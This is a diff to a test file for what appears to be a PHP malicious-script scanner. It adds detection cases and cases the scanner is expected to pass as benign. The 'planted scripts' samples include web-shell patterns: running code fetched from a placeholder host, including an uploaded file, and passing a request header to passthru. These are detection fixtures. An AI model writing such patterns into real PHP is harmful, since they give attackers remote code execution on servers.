@@ -15,6 +15,7 @@ function rules(code: string): string[] {
 describe('what planted scripts do', () => {
   it.each([
     ['run a remote answer', `${RUN}(file_get_contents('http://a.example.test/x'));`, 'php.remote-to-code critical'],
+    ['include an upload', `include $_FILES['f']['tmp_name'];`, 'php.request-include critical'],
     ['run a header', 'passthru(getenv("HTTP_ACCEPT_LANGUAGE"));', 'php.request-to-command critical'],
     [
       'run an encoded text',
@@ -215,6 +216,10 @@ describe('what honest scripts do', () => {
       'answer by a magic method',
       `class M { static function __callStatic($n, $a) { return self::find($n, $a); } } echo M::posts(${GET}['id']);`,
     ],
+    [
+      'load words of a language that a list which is uploaded names',
+      `$rows = file_get_contents($_FILES['f']['tmp_name']); foreach (explode("\n", $rows) as $name) { $old = require $this->folder . '/' . $name . '.php'; }`,
+    ],
     ['name a file that runs first', `ini_set('auto_prepend_file', '/srv/site/waf.php');`],
     ['fetch a page by a command', `exec('wget -O /tmp/page.html http://a.example.test/');`],
     ['run their own archive', `include 'phar://' . __DIR__ . '/tool.phar/run.php'; include 'phar://tool.phar/a.php';`],
@@ -325,6 +330,7 @@ describe('the way of writing', () => {
     ['only lends functions', `function pack($to, $b) { $h = fopen($to, 'w'); fwrite($h, $b); }`],
     ['only lends classes', `class A { function pack($to, $b) { $h = fopen($to, 'w'); fwrite($h, $b); } }`],
     ['calls a variable that nobody set, with nothing', '$oops();'],
+    ['makes an object of a class that only its caller names', '$made = new $class($code, $mode);'],
   ])('accuses no file that %s', (_, code) => {
     expect(grave(code)).toEqual([]);
   });
